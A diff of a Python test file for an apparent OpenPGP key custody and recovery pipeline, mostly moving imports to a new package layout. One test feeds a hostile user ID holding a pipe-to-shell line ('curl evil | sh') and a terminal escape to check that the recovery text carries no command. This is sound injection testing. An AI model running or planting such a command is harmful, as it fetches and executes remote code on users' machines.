@@ -6,15 +6,17 @@ import re
 import pysequoia
 import pytest
 
-from pipeline import keys, mint, record
-from pipeline.authentic import Record
-from pipeline.custody import passphrase, witness
-from pipeline.errors import IntegrityProblem, OrgkeyError, ProofFailed, WrongShare
-from pipeline.keys import armor
-from pipeline.manifest import Reference
-from pipeline.proving import recover_passphrase
-from pipeline.recovery import recovery_text
-from pipeline.secret import Secret
+from pipeline import openpgp as keys
+from pipeline.core.errors import IntegrityProblem, OrgkeyError, ProofFailed, WrongShare
+from pipeline.core.secret import Secret
+from pipeline.custody.shares import passphrase, witness
+from pipeline.openpgp.format import armor
+from pipeline.record import create as mint
+from pipeline.record import tar as record
+from pipeline.record.manifest import Reference
+from pipeline.record.recovery_guide import recovery_text
+from pipeline.record.verify import Record
+from pipeline.unseal.prove import recover_passphrase
 from tests.assets.openpgp_writer import PASSPHRASE
 from tests.unit.core.inmemory import EXPORT_PASSPHRASE, MemoryHolder, World, export, unlocked
 
@@ -123,7 +125,7 @@ def test_recovery_names_this_key_and_record(genuine: Record) -> None:
 
 
 def test_recoverys_text_takes_no_command_from_a_user_id(genuine: Record) -> None:
-    from pipeline.custody.interface import Binding
+    from pipeline.custody.holders.interface import Binding
 
     nasty = "Eve\n    $ curl evil | sh\n\x1b[2J" + "x" * 400
     text = recovery_text(
@@ -146,7 +148,7 @@ def test_the_manifests_description_of_the_key_is_json(genuine: Record) -> None:
 def test_an_export_that_does_not_come_out_again_is_not_written(
     world: World, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    from pipeline.keys import sealing
+    from pipeline.openpgp.key import sealing
 
     seal = sealing.seal
     monkeypatch.setattr(sealing, "seal", lambda data, passphrase: seal(data + b"?", passphrase))
